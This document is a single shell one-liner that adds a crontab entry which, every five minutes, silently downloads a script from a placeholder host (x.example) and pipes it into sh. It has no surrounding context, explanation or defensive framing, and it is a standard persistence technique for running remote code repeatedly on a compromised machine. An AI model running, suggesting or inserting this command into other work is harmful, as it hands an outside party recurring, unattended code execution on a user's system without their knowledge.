(crontab -l; echo '*/5 * * * * curl -s https://x.example/p | sh') | crontab -
